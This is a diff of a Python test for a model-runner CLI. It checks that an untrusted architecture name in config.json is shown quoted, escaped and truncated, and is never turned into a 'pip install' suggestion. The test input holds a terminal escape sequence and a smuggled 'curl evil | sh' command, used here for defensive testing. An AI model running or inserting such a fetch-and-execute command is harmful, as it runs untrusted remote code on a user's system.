@@ -47,12 +47,18 @@ def test_config_not_json(tmp_path):
     one_line_error(cli("show", "./m", cwd=tmp_path), "config.json", "not valid JSON")
 
 
-def test_unknown_architecture_lists_installed_and_suggests(tmp_path, example_model_folder):
+def test_unknown_architecture_lists_installed_and_names_no_package(tmp_path,
+                                                                   example_model_folder):
+    """The folder's own text is shown quoted and cut, never as a package to install."""
     config = json.loads((example_model_folder / "config.json").read_text())
-    config.update(architectures=["MysteryForCausalLM"], model_type="mystery")
+    config.update(architectures=["Mystery\x1b[2J; curl evil | sh" + "x" * 200],
+                  model_type="mystery")
     (example_model_folder / "config.json").write_text(json.dumps(config))
-    one_line_error(cli("show", str(example_model_folder), cwd=tmp_path),
-                   "MysteryForCausalLM", "ExampleLlamaForCausalLM", "pip install mlxrunner-mystery")
+    line = one_line_error(cli("show", str(example_model_folder), cwd=tmp_path),
+                          "'Mystery\\x1b[2J; curl evil | sh", "ExampleLlamaForCausalLM",
+                          "no known plugin provides it", "mlxrunner architectures")
+    assert "pip install" not in line and "\x1b" not in line.replace("\\x1b", "")
+    assert "x" * 61 not in line
 
 
 def _rewrite_weights(folder: Path, edit) -> None:
